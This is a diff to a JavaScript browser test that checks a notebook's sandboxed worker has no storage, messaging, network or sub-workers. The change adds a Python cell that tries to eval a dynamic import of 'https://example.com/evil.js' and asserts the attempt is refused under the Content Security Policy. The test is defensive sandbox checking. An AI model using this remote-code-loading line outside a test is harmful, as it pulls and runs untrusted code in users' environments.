@@ -122,7 +122,7 @@ function twice(bytes) {
 }
 
 test("what runs in the worker has no storage, no channel, no network, no other worker", async () => {
-  const { page, close } = await site.open();
+  const { page, complaints, close } = await site.open();
   await ready(page);
   const cell = await runCell(
     page,
@@ -136,8 +136,16 @@ names = ["indexedDB", "caches", "BroadcastChannel", "Worker", "SharedWorker", "f
     "js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, 'indexedDB') is None or str(js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, 'indexedDB'))",
   );
   assert.match(await gone.locator(".value").textContent(), /True|undefined/);
-  const evaluated = await runCell(page, "js.eval('1 + 1')");
-  assert.match(await evaluated.locator(".traceback").textContent(), /EvalError|unsafe-eval|Content Security Policy/);
+  const code =
+    "import js\ntry:\n    await js.eval(\"import('https://example.com/evil.js')\")\nexcept BaseException as error:\n    print('refused')";
+  const evaluated = await runCell(page, code);
+  assert.equal(await evaluated.locator("[data-stream='stdout']").textContent(), "refused\n");
+  // Chromium tells of it on the console.
+  assert.ok(complaints.length);
+  assert.deepEqual(
+    complaints.splice(0).filter((complaint) => !/Content Security Policy/.test(complaint)),
+    [],
+  );
   await close();
 });
 
